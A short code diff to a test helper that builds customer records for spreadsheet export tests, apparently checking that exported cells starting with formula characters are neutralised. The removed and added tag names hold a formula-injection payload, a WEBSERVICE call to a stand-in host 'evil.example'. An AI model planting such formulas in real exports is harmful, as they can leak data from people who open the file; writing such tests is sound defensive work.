@@ -94,7 +94,9 @@ def customer_with_text(start: str) -> Customer:
         postcode=f"{start}SW1A",  # not "-200000", a bare negative number left as it is
         country=f"{start}C",
     )
-    customer.tags.add(Tag.objects.create(name=f'{start}WEBSERVICE("http://evil.example")'))
+    # A tag without a separator of tags, which would have it written in double quotes, a cell
+    # no spreadsheet evaluates (test_export_tags_round_trip.py).
+    customer.tags.add(Tag.objects.create(name=f'{start}WEBSERVICE("evil.example")'))
     return customer
 
 
